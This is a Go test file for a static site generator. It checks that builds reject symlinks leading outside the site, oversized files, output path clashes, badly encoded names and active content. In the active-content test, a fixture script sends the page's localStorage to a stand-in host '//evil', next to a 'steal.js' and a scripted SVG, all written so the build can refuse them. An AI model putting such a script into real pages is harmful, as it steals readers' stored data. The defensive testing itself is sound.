package site

import (
	"errors"
	"fmt"
	"html"
	"mutual/internal/theme"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"runtime"
	"strings"
	"testing"

	"mutual/internal/diag"
)

// TestLinksOutsideTheSite builds sites with symbolic links that lead out of
// the site folder (or out of a theme's folder): each is an error naming the
// link and its target, and nothing is published. Links that stay inside are
// followed.
func TestLinksOutsideTheSite(t *testing.T) {
	t.Parallel() // reads no file another test writes, and measures no time or memory
	outside := t.TempDir()
	writeFile(t, outside, "secret.txt", "THE SECRET\n")
	writeFile(t, outside, "secret.md", "---\ntitle: Secret\n---\nTHE SECRET\n")
	writeFile(t, outside, "dir/file.txt", "THE SECRET\n")
	writeFile(t, outside, "site.yaml", "title: THE SECRET\nbaseURL: https://example.org/\n")
	secret := filepath.Join(outside, "secret.txt")
	theme := func(t *testing.T, dir string) {
		writeFile(t, dir, "content/site.yaml", "title: T\nbaseURL: https://example.org/\ntheme: t\n")
		writeFile(t, dir, "themes/t/theme.yaml", "extends: default\n")
	}
	tests := []struct {
		name  string
		setup func(t *testing.T, dir string)
		link  string // site-relative path of the link
		to    string // its target
		want  string // the error, after "link: "
	}{
		{"a content file", nil, "content/passwd.txt", secret, "symbolic link to " + secret + ", which is outside the site folder: copy what it points to into the site instead"},
		{"a page", nil, "content/guides/secret.md", filepath.Join(outside, "secret.md"), "which is outside the site folder"},
		{"a relative link", nil, "content/guides/up.txt", "relative:" + secret, "which is outside the site folder"},
		{"a folder", nil, "content/guides/more", filepath.Join(outside, "dir"), "which is outside the site folder"},
		{"site.yaml", func(t *testing.T, dir string) { os.Remove(filepath.Join(dir, "content/site.yaml")) }, "content/site.yaml", filepath.Join(outside, "site.yaml"), "which is outside the site folder"},
		{"a theme's static file", theme, "themes/t/static/k", secret, "symbolic link to " + secret + ", which is outside the theme's folder themes/t: copy what it points to into the theme instead"},
		{"a theme's static folder", theme, "themes/t/static", filepath.Join(outside, "dir"), "which is outside the theme's folder themes/t"},
		{"a layout partial", theme, "themes/t/layouts/partials/footer.html", secret, "which is outside the theme's folder themes/t"},
		{"theme.yaml", func(t *testing.T, dir string) {
			writeFile(t, dir, "content/site.yaml", "title: T\nbaseURL: https://example.org/\ntheme: t\n")
			os.MkdirAll(filepath.Join(dir, "themes/t"), 0o755)
		}, "themes/t/theme.yaml", secret, "which is outside the theme's folder themes/t"},
		{"a loop of links", func(t *testing.T, dir string) {
			if err := os.Symlink("loop-a.md", filepath.Join(dir, "content/guides/loop-b.md")); err != nil {
				t.Fatal(err)
			}
		}, "content/guides/loop-a.md", "loop-b.md", "symbolic link that leads back to itself through other links: make it point at a file or folder, or remove it"},
		{"a link out of the theme into the site", theme, "themes/t/static/notes.txt", "../../../content/guides/img.txt", "which is outside the theme's folder themes/t"},
		{"a link to nothing", nil, "content/guides/gone.md", filepath.Join(outside, "gone.md"), "symbolic link to " + filepath.Join(outside, "gone.md") + ", which does not exist: make it point at a file or folder, or remove it"},
		{"a link to nothing, inside", nil, "content/guides/gone.txt", "missing.txt", "symbolic link to missing.txt, which does not exist"},
		{"a theme's link to nothing", theme, "themes/t/static/gone.css", "missing.css", "cannot read: the file is not there (a symbolic link to nothing, or a file removed while mutual read the site)"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			dir := minimalSite(t)
			if tt.setup != nil {
				tt.setup(t, dir)
			}
			link := filepath.Join(dir, filepath.FromSlash(tt.link))
			os.MkdirAll(filepath.Dir(link), 0o755)
			to := tt.to
			if abs, ok := strings.CutPrefix(to, "relative:"); ok {
				to, _ = filepath.Rel(filepath.Dir(link), abs)
			}
			if err := os.Symlink(to, link); err != nil {
				t.Fatal(err)
			}
			out := filepath.Join(dir, "public")
			_, err := New(Options{Dir: dir, Out: out}).Build()
			var list diag.List
			if !errors.As(err, &list) {
				t.Fatalf("want positioned errors, got %v", err)
			}
			found := false
			for _, e := range list {
				found = found || e.Path == tt.link && strings.Contains(e.Msg, tt.want)
			}
			if !found {
				t.Errorf("errors:\n%v\nwant %s: ...%s", list, tt.link, tt.want)
			}
			if _, err := os.Stat(out); err == nil {
				t.Error("the build wrote an output")
			}
			if err := New(Options{Dir: dir}).Check(); err == nil || err.Error() != list.Error() {
				t.Errorf("check disagrees:\n%v", err)
			}
		})
	}

	t.Run("content/ itself", func(t *testing.T) {
		dir := t.TempDir()
		elsewhere := minimalSite(t)
		os.Symlink(filepath.Join(elsewhere, "content"), filepath.Join(dir, "content"))
		_, err := New(Options{Dir: dir}).Build()
		if err == nil || !strings.Contains(err.Error(), "content: content/ is a symbolic link to "+filepath.Join(elsewhere, "content")+", which is outside the site folder") {
			t.Errorf("got %v", err)
		}
	})

	t.Run("links inside", func(t *testing.T) {
		dir := minimalSite(t)
		writeFile(t, dir, "content/other/note.txt", "a note\n")
		writeFile(t, dir, "shared/style.css", "p { margin: 0; }\n")
		writeFile(t, dir, "content/site.yaml", "title: T\nbaseURL: https://example.org/\ntheme: t\n")
		// The theme folder itself may be a link to a theme elsewhere.
		shared := t.TempDir()
		writeFile(t, shared, "t/theme.yaml", "extends: default\n")
		writeFile(t, shared, "t/static/css/real.css", "p { color: navy; }\n")
		links := map[string]string{
			"content/guides/note.txt":   "../other/note.txt",
			"themes/t":                  filepath.Join(shared, "t"),
			"content/guides/copy.txt":   filepath.Join(dir, "content/other/note.txt"),
			"content/guides/shared.css": filepath.Join(dir, "shared/style.css"),
		}
		for l, to := range links {
			os.MkdirAll(filepath.Dir(filepath.Join(dir, l)), 0o755)
			if err := os.Symlink(to, filepath.Join(dir, l)); err != nil {
				t.Fatal(err)
			}
		}
		os.Symlink("real.css", filepath.Join(shared, "t/static/css/custom.css"))
		out := filepath.Join(dir, "public")
		if _, err := New(Options{Dir: dir, Out: out}).Build(); err != nil {
			t.Fatal(err)
		}
		tree := readTree(t, out)
		if string(tree["guides/note.txt"]) != "a note\n" || string(tree["guides/copy.txt"]) != "a note\n" || string(tree["guides/shared.css"]) != "p { margin: 0; }\n" {
			t.Errorf("links inside the site were not followed: %v", treeNames(tree))
		}
		found := false
		for name, data := range tree {
			found = found || strings.HasPrefix(name, "css/custom.") && string(data) == "p{color:navy;}\n" // compacted
		}
		if !found {
			t.Errorf("a link inside the theme was not followed: %v", treeNames(tree))
		}
	})
}

// sparse makes a file of size bytes that takes no room on disk.
func sparse(t *testing.T, dir, name string, head string, size int64) {
	t.Helper()
	writeFile(t, dir, name, head)
	if err := os.Truncate(filepath.Join(dir, filepath.FromSlash(name)), size); err != nil {
		t.Fatal(err)
	}
}

// TestFileSizeLimits builds sites with files over the limits of the files
// a build reads whole: each is an error at the file, read no further than
// its size.
func TestFileSizeLimits(t *testing.T) {
	theme := "title: T\nbaseURL: https://example.org/\ntheme: t\n"
	tests := []struct {
		name, file string
		size       int64
		head       string
		want       string
	}{
		{"page", "content/guides/big.md", 12 << 20, "---\ntitle: Big\n---\n", "content/guides/big.md: this page is 12.0 MB; a page may be at most 10.0 MB: split it into several pages"},
		{"worksheet", "content/worksheets/big.yaml", 3 << 20, "title: Big\n", "content/worksheets/big.yaml: this worksheet is 3.0 MB; a worksheet may be at most 1.0 MB: split it into several worksheets"},
		{"site.yaml", "content/site.yaml", 2 << 20, "title: T\nbaseURL: https://example.org/\n", "content/site.yaml: this file is 2.0 MB; a file may be at most 1.0 MB"},
		{"a layout", "themes/t/layouts/partials/footer.html", 2 << 20, "<footer>", "themes/t/layouts/partials/footer.html: this layout is 2.0 MB; a layout may be at most 1.0 MB"},
		{"a static file", "themes/t/static/img/big.png", 20 << 20, "png", "themes/t/static/img/big.png: this static file is 20.0 MB; a static file may be at most 16.0 MB"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			dir := minimalSite(t)
			writeFile(t, dir, "themes/t/theme.yaml", "extends: default\n")
			if strings.HasPrefix(tt.file, "themes/") {
				writeFile(t, dir, "content/site.yaml", theme)
			}
			sparse(t, dir, tt.file, tt.head, tt.size)
			_, err := New(Options{Dir: dir}).Build()
			if err == nil || !strings.Contains(err.Error(), tt.want) {
				t.Errorf("got %v\nwant %s", err, tt.want)
			}
		})
	}
}

// TestLinkToTooBigWorksheet: a link to a worksheet refused for its size
// says that the worksheet has errors of its own, not that it is missing.
func TestLinkToTooBigWorksheet(t *testing.T) {
	dir := minimalSite(t)
	writeFile(t, dir, "content/guides/a.md", "---\ntitle: A\n---\nThe [check](../worksheets/big.yaml).\n")
	sparse(t, dir, "content/worksheets/big.yaml", "title: Big\n", 3<<20)
	_, err := New(Options{Dir: dir}).Build()
	want := `content/guides/a.md:4:5: link to "../worksheets/big.yaml", which is not published in this build: it has errors of its own, reported at the file` + "\n" +
		"content/worksheets/big.yaml: this worksheet is 3.0 MB; a worksheet may be at most 1.0 MB: split it into several worksheets"
	if err == nil || err.Error() != want {
		t.Errorf("got %v\nwant %s", err, want)
	}
}

// TestLargeContentFileStreamed copies a 200 MB content file: the build
// succeeds and allocates a small fraction of the file's size, so the file
// was never held in memory.
func TestLargeContentFileStreamed(t *testing.T) {
	if testing.Short() {
		t.Skip("writes 200 MB")
	}
	dir := minimalSite(t)
	const size = 200 << 20
	sparse(t, dir, "content/video.mp4", "not really a video", size)
	runtime.GC()
	var before, after runtime.MemStats
	runtime.ReadMemStats(&before)
	out := filepath.Join(t.TempDir(), "out")
	if _, err := New(Options{Dir: dir, Out: out}).Build(); err != nil {
		t.Fatal(err)
	}
	runtime.ReadMemStats(&after)
	if st, err := os.Stat(filepath.Join(out, "video.mp4")); err != nil || st.Size() != size {
		t.Fatalf("the file was not copied whole: %v", err)
	}
	if alloc := after.TotalAlloc - before.TotalAlloc; alloc > size/4 {
		t.Errorf("the build allocated %d MB for a %d MB file", alloc>>20, size>>20)
	}
}

// TestFileNamesInURLs builds a site whose files and folders have names
// with "#", "?", "%", spaces and letters outside ASCII, served as a static
// host serves files: every link of its pages, every address of its sitemap
// and feed, and its redirects lead to the file, and a link written with a
// file name as it is gets a hint.
func TestFileNamesInURLs(t *testing.T) {
	dir := t.TempDir()
	names := []string{"notes#1.txt", "100%.txt", "what?.txt", "a b.txt", "été.txt"}
	links := ""
	for i, n := range names {
		writeFile(t, dir, "content/guides/"+n, fmt.Sprintf("file %d\n", i))
		links += fmt.Sprintf("- [file %d](%s)\n", i, strings.NewReplacer("%", "%25", "#", "%23", "?", "%3F", " ", "%20").Replace(n))
	}
	writeFile(t, dir, "content/site.yaml", "title: T\nbaseURL: https://example.org/my%20site/\nmenu:\n  - {name: Q, url: \"guides/q&a %232.md\"}\n")
	writeFile(t, dir, "content/guides/a.md", "---\ntitle: A\ntags: [Café au lait]\naliases: [/old place/]\n---\n"+links+
		"- [the page](q%26a%20%232.md)\n- [the folder](sub%20dir/)\n- [a heading](q%26a%20%232.md#two)\n")
	writeFile(t, dir, "content/guides/q&a #2.md", "---\ntitle: Q and A\ndate: 2026-01-01\n---\n## Two\n")
	writeFile(t, dir, "content/guides/sub dir/b.md", "---\ntitle: B\n---\nB.\n")
	out := filepath.Join(dir, "public")
	if _, err := New(Options{Dir: dir, Out: out}).Build(); err != nil {
		t.Fatal(err)
	}
	// As a static host: the decoded path, under the base path, names a
	// file of the output.
	files := http.FileServer(http.Dir(out))
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		p, ok := strings.CutPrefix(r.URL.Path, "/my site")
		if !ok {
			http.NotFound(w, r)
			return
		}
		r2 := r.Clone(r.Context())
		r2.URL.Path, r2.URL.RawPath = p, ""
		files.ServeHTTP(w, r2)
	}))
	defer srv.Close()
	get := func(u string) int {
		t.Helper()
		parsed, err := url.Parse(u)
		if err != nil {
			t.Errorf("%q is not a URL: %v", u, err)
			return 0
		}
		res, err := http.Get(srv.URL + parsed.EscapedPath())
		if err != nil {
			t.Fatal(err)
		}
		res.Body.Close()
		return res.StatusCode
	}
	page, _ := os.ReadFile(filepath.Join(out, "guides/a/index.html"))
	hrefs := regexp.MustCompile(`href="(/my%20site/[^"]*)"`).FindAllStringSubmatch(string(page), -1)
	if len(hrefs) < len(names)+5 {
		t.Fatalf("only %d links on the page", len(hrefs))
	}
	for _, h := range hrefs {
		u := html.UnescapeString(h[1])
		if code := get(u); code != http.StatusOK {
			t.Errorf("link %s: status %d", u, code)
		}
	}
	for _, file := range []string{"sitemap.xml", "feed.xml", "old place/index.html"} {
		data, _ := os.ReadFile(filepath.Join(out, filepath.FromSlash(file)))
		locs := regexp.MustCompile(`(?:<loc>|href=")(https://example\.org/[^<"]*)`).FindAllStringSubmatch(string(data), -1)
		if len(locs) == 0 {
			t.Errorf("%s: no addresses", file)
		}
		for _, l := range locs {
			u := html.UnescapeString(l[1])
			if strings.ContainsAny(u, " #?") || strings.ContainsFunc(u, func(r rune) bool { return r > 127 }) {
				t.Errorf("%s: address %q is not encoded", file, u)
			}
			if code := get(u); code != http.StatusOK {
				t.Errorf("%s: %s: status %d", file, u, code)
			}
		}
	}
	// A link with a file's name as it is.
	writeFile(t, dir, "content/guides/a.md", "---\ntitle: A\n---\nSee [the notes](notes#1.txt) and [all](100%.txt).\n")
	_, err := New(Options{Dir: dir, Out: out}).Build()
	for _, want := range []string{
		`content/guides/a.md:4:5: link to missing file "notes#1.txt" (in a link, a file name's "#", "?" and "%" are written %23, %3F and %25: "notes%231.txt")`,
		`content/guides/a.md:4:34: link "100%.txt" is not a valid path (in a link, a file name's "#", "?" and "%" are written %23, %3F and %25: "100%25.txt")`,
	} {
		if err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("got %v\nwant %s", err, want)
		}
	}
}

// TestOutputClashes builds sites where two sources would write the same
// output file, or one a file where another needs a folder: each is an
// error naming both, at the source a writer can change.
func TestOutputClashes(t *testing.T) {
	t.Parallel() // reads no file another test writes, and measures no time or memory
	css := "a { color: navy; }\n"
	hashed := theme.NewAsset("css/x.css", []byte(css), "").Out
	tests := []struct {
		name  string
		files map[string]string
		want  string
	}{
		{"alias of the home page", map[string]string{"content/guides/b.md": "---\ntitle: B\naliases:\n  - /index.html\n---\n"},
			`content/guides/b.md:4:5: the alias "/index.html" of content/guides/b.md and content/_index.md would both be published at /index.html`},
		{"alias of the icon", map[string]string{"content/guides/b.md": "---\ntitle: B\naliases: [/favicon.svg]\n---\n"},
			`content/guides/b.md:3:11: the alias "/favicon.svg" of content/guides/b.md and the theme's file themes/default/static/favicon.svg would both be published at /favicon.svg`},
		{"alias of robots.txt", map[string]string{"content/guides/b.md": "---\ntitle: B\naliases: [/robots.txt]\n---\n"},
			`content/guides/b.md:3:11: the alias "/robots.txt" of content/guides/b.md and the robots.txt mutual writes would both be published at /robots.txt: rename or remove one of them`},
		{"alias of the sitemap", map[string]string{"content/guides/b.md": "---\ntitle: B\naliases: [/x/, /sitemap.xml]\n---\n"},
			`content/guides/b.md:3:16: the alias "/sitemap.xml" of content/guides/b.md and the sitemap mutual writes would both be published at /sitemap.xml`},
		{"alias of the feed", map[string]string{"content/guides/b.md": "---\ntitle: B\naliases: [/feed.xml]\n---\n"},
			`and the feed mutual writes would both be published at /feed.xml`},
		{"alias of a content file", map[string]string{"content/guides/b.md": "---\ntitle: B\naliases: [/guides/img.txt]\n---\n"},
			`content/guides/b.md:3:11: the alias "/guides/img.txt" of content/guides/b.md and content/guides/img.txt would both be published at /guides/img.txt`},
		{"alias of the tags page", map[string]string{"content/guides/b.md": "---\ntitle: B\naliases: [/tags/index.html]\n---\n"},
			`the alias "/tags/index.html" of content/guides/b.md and the tags page mutual writes would both be published at /tags/index.html`},
		{"alias in .git", map[string]string{"content/guides/b.md": "---\ntitle: B\naliases: [/.git/hooks/index.html]\n---\n"},
			`content/guides/b.md:3:11: alias "/.git/hooks/index.html" has a part that starts with "." (.git)`},
		{"alias in .well-known", map[string]string{"content/guides/b.md": "---\ntitle: B\naliases: [/x/.well-known/]\n---\n"},
			`alias "/x/.well-known/" has a part that starts with "." (.well-known)`},
		{"alias with a query", map[string]string{"content/guides/b.md": "---\ntitle: B\naliases: [\"/old?id=3\"]\n---\n"},
			`alias "/old?id=3" is not a site path such as /old/address/`},
		{"a content file where mutual writes", map[string]string{"content/robots.txt": "User-agent: *\nDisallow: /\n"},
			`content/robots.txt: content/robots.txt and the robots.txt mutual writes would both be published at /robots.txt: to publish your own, put it in static/robots.txt, which replaces mutual's`},
		{"a static 404 page", map[string]string{"static/404.html": "<h1>Lost</h1>\n", "content/site.yaml": "title: T\nbaseURL: https://example.org/\ntrustHTML: true\n"},
			`static/404.html: static/404.html and the 404 page mutual writes would both be published at /404.html: to change this page, write layouts/404.html in a theme of your own (see Themes in mutual's README), or rename yours`},
		{"a content file on the search page", map[string]string{"content/search/index.html": "<h1>Find</h1>\n", "content/site.yaml": "title: T\nbaseURL: https://example.org/\ntrustHTML: true\n"},
			`and the search page /search/ mutual writes would both be published at /search/index.html: to change this page, write layouts/search.html in a theme of your own`},
		{"a content file on the icon", map[string]string{"content/favicon.svg": `<svg xmlns="http://www.w3.org/2000/svg"/>`},
			`content/favicon.svg: content/favicon.svg and the theme's file themes/default/static/favicon.svg would both be published at /favicon.svg`},
		{"a content file on a hashed asset", map[string]string{
			"content/site.yaml":             "title: T\nbaseURL: https://example.org/\ntheme: t\n",
			"themes/t/theme.yaml":           "extends: default\n",
			"themes/t/static/css/x.css":     css,
			"content/" + hashed:             "body {}\n",
			"content/schema/worksheet.json": "{}\n",
		}, "content/" + hashed + ": content/" + hashed + " and the theme's file themes/t/static/css/x.css would both be published at /" + hashed},
		{"a content file on the schema", map[string]string{"content/schema/worksheet.json": "{}\n"},
			`content/schema/worksheet.json: content/schema/worksheet.json and the worksheet schema would both be published at /schema/worksheet.json`},
		{"a file where a page needs a folder", map[string]string{"content/guides/notes": "plain text\n", "content/guides/notes.md": "---\ntitle: Notes\n---\n"},
			`content/guides/notes.md: content/guides/notes.md would be published at /guides/notes/index.html, inside /guides/notes/, but content/guides/notes is published at /guides/notes itself, as a file`},
		{"a slug where a file is", map[string]string{"content/guides/notes": "plain text\n", "content/guides/n.md": "---\ntitle: Notes\nslug: notes\n---\n"},
			`content/guides/n.md:3:7: content/guides/n.md would be published at /guides/notes/index.html, inside /guides/notes/, but content/guides/notes is published at /guides/notes itself, as a file`},
		{"a file where the tags need a folder", map[string]string{"content/tags": "plain text\n"},
			`content/tags: the tags page mutual writes would be published at /tags/index.html, inside /tags/, but content/tags is published at /tags itself, as a file`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			dir := minimalSite(t)
			for name, body := range tt.files {
				writeFile(t, dir, name, body)
			}
			_, err := New(Options{Dir: dir}).Build()
			if err == nil || !strings.Contains(err.Error(), tt.want) {
				t.Fatalf("got %v\nwant %s", err, tt.want)
			}
			if err := New(Options{Dir: dir}).Check(); err == nil || !strings.Contains(err.Error(), tt.want) {
				t.Errorf("check: got %v", err)
			}
			if _, err := os.Stat(filepath.Join(dir, "public")); err == nil {
				t.Error("a build with a clash wrote its output")
			}
		})
	}
}

// TestActiveContent builds sites with files that can run scripts in
// content/: each is refused with its path, unless the site trusts its
// HTML; clean SVG images pass.
func TestActiveContent(t *testing.T) {
	for _, trust := range []string{"", "trustHTML: true\n", "markdown: {unsafe: true}\n"} {
		dir := minimalSite(t)
		writeFile(t, dir, "content/site.yaml", "title: T\nbaseURL: https://example.org/\n"+trust)
		writeFile(t, dir, "content/resources.html", "<script>fetch('//evil/?'+JSON.stringify(localStorage))</script>\n")
		writeFile(t, dir, "content/js/steal.js", "fetch('//evil')\n")
		writeFile(t, dir, "content/feed/data.XML", "<x/>\n")
		writeFile(t, dir, "content/img/evil.svg", `<svg xmlns="http://www.w3.org/2000/svg">`+"\n"+`<script>x()</script></svg>`)
		writeFile(t, dir, "content/img/clean.svg", `<svg xmlns="http://www.w3.org/2000/svg"><circle r="1"/></svg>`)
		writeFile(t, dir, "content/guides/a.md", "---\ntitle: A\n---\n![a circle](../img/clean.svg)\n")
		writeFile(t, dir, "static/old/page.html", "<script>x()</script>\n")
		out := filepath.Join(dir, "public")
		_, err := New(Options{Dir: dir, Out: out}).Build()
		if trust != "" {
			if err != nil {
				t.Fatalf("%strusted: %v", trust, err)
			}
			continue
		}
		want := []string{
			"content/feed/data.XML: an XML file in content/ is published as it is, and a script in it could read what readers saved on this site, worksheet answers included: write the page in Markdown instead; if you trust every file of this site, set trustHTML: true in content/site.yaml",
			"content/img/evil.svg:2:9: it has a <script> element: an SVG image may hold no script, event attribute or reference to another file, since opened on its own it would run with the site's rights; if you trust every file of this site, set trustHTML: true in content/site.yaml",
			"content/js/steal.js: a JavaScript file in content/",
			"content/resources.html: an HTML page in content/",
			// Named by the folder it is in.
			"static/old/page.html: an HTML page in static/ is published as it is",
		}
		got := ""
		if err != nil {
			got = err.Error()
		}
		lines := strings.Split(got, "\n")
		if len(lines) != len(want) {
			t.Fatalf("errors:\n%s", got)
		}
		for i := range want {
			if !strings.HasPrefix(lines[i], want[i]) {
				t.Errorf("error %d:\n%s\nwant\n%s", i, lines[i], want[i])
			}
		}
		if _, err := os.Stat(out); err == nil {
			t.Error("a refused build wrote its output")
		}
	}
}

// TestYMLLikeYAML holds that every YAML file of a site may end in .yml as
// well as .yaml: site.yml, a theme's theme.yml, a worksheet w.yml (page
// /worksheets/w/, slug "w" in its page); a site or theme with both names is
// an error naming both.
func TestYMLLikeYAML(t *testing.T) {
	const ws = "title: W\nsections:\n  - title: S\n    questions:\n      - {id: a, type: reflection, text: A}\n"
	tests := []struct {
		name  string
		files map[string]string
		check func(t *testing.T, out string, err error)
	}{
		{"a worksheet w.yml", map[string]string{"content/worksheets/w.yml": ws}, func(t *testing.T, out string, err error) {
			if err != nil {
				t.Fatal(err)
			}
			page, rerr := os.ReadFile(filepath.Join(out, "worksheets", "w", "index.html"))
			if rerr != nil {
				t.Fatal(rerr)
			}
			if !strings.Contains(string(page), `data-slug="w"`) {
				t.Errorf("the page does not carry the slug w")
			}
		}},
		{"site.yml", map[string]string{"content/site.yaml": "", "content/site.yml": "title: Y\nbaseURL: https://example.org/\n"}, func(t *testing.T, out string, err error) {
			if err != nil {
				t.Fatal(err)
			}
			if home, _ := os.ReadFile(filepath.Join(out, "404.html")); !strings.Contains(string(home), "Y</title>") {
				t.Errorf("site.yml was not read")
			}
		}},
		{"site.yml beside site.yaml", map[string]string{"content/site.yml": "title: Y\nbaseURL: https://example.org/\n"}, func(t *testing.T, out string, err error) {
			if err == nil || err.Error() != "content/site.yml: a site has one configuration, but content/site.yaml is here too: keep one of them" {
				t.Errorf("got %v", err)
			}
		}},
		{"errors in site.yml name it", map[string]string{"content/site.yaml": "", "content/site.yml": "title: Y\nbaseURL: https://example.org/\nmenu: [{name: X, url: nope.md}]\n"}, func(t *testing.T, out string, err error) {
			if err == nil || !strings.HasPrefix(err.Error(), "content/site.yml:3:") {
				t.Errorf("got %v", err)
			}
		}},
		{"theme.yml", map[string]string{
			"content/site.yaml":              "title: T\nbaseURL: https://example.org/\ntheme: mine\n",
			"themes/mine/theme.yml":          "extends: default\n",
			"themes/mine/static/css/x.css":   "a {}\n",
			"themes/mine/layouts/.keep.html": "",
		}, func(t *testing.T, out string, err error) {
			if err != nil {
				t.Fatal(err)
			}
			if m, _ := filepath.Glob(filepath.Join(out, "css", "x.*.css")); len(m) != 1 {
				t.Errorf("the theme of theme.yml was not used: %v", m)
			}
		}},
		{"theme.yml beside theme.yaml", map[string]string{
			"content/site.yaml":      "title: T\nbaseURL: https://example.org/\ntheme: mine\n",
			"themes/mine/theme.yml":  "extends: default\n",
			"themes/mine/theme.yaml": "extends: default\n",
		}, func(t *testing.T, out string, err error) {
			if err == nil || !strings.Contains(err.Error(), "themes/mine/theme.yml: a theme has one theme.yaml, but themes/mine/theme.yaml is here too") {
				t.Errorf("got %v", err)
			}
		}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			dir := minimalSite(t)
			for name, body := range tt.files {
				if body == "" && strings.HasSuffix(name, "site.yaml") {
					os.Remove(filepath.Join(dir, name))
					continue
				}
				writeFile(t, dir, name, body)
			}
			out := filepath.Join(t.TempDir(), "out")
			_, err := New(Options{Dir: dir, Out: out}).Build()
			tt.check(t, out, err)
		})
	}
}

// TestConfigIsAFolder: a folder named site.yaml is an error at it that says
// what to do, not an error of the operating system's.
func TestConfigIsAFolder(t *testing.T) {
	dir := minimalSite(t)
	os.Remove(filepath.Join(dir, "content/site.yaml"))
	os.Mkdir(filepath.Join(dir, "content/site.yaml"), 0o755)
	_, err := New(Options{Dir: dir}).Build()
	want := "content/site.yaml: this is a folder; the site's configuration is a file: remove the folder and write site.yaml in its place (mutual init DIR writes one in a new site)"
	if err == nil || err.Error() != want {
		t.Errorf("got %v\nwant %s", err, want)
	}
}

// TestNonUTF8Names: a file or folder name that is not UTF-8 (saved by a
// program in Latin-1, say) is an error asking to rename it, and nothing is
// published under a mangled address.
func TestNonUTF8Names(t *testing.T) {
	dir := minimalSite(t)
	page := filepath.Join(dir, "content", "guides", "caf\xe9.md")
	if err := os.WriteFile(page, []byte("---\ntitle: Café\n---\n"), 0o644); err != nil {
		t.Skipf("this file system refuses names that are not UTF-8: %v", err)
	}
	writeFile(t, dir, "static/ok.txt", "ok\n")
	if err := os.WriteFile(filepath.Join(dir, "static", "r\xe9sum\xe9.txt"), []byte("x"), 0o644); err != nil {
		t.Fatal(err)
	}
	out := filepath.Join(t.TempDir(), "out")
	_, err := New(Options{Dir: dir, Out: out}).Build()
	want := "content/guides/caf?.md: this name is not UTF-8 text (a program saved it in another encoding): rename it, retyping its accented letters\n" +
		"static/r?sum?.txt: this name is not UTF-8 text (a program saved it in another encoding): rename it, retyping its accented letters"
	if err == nil || err.Error() != want {
		t.Errorf("got %v\nwant %s", err, want)
	}
	if _, err := os.Stat(out); err == nil {
		t.Error("the build wrote an output")
	}
}
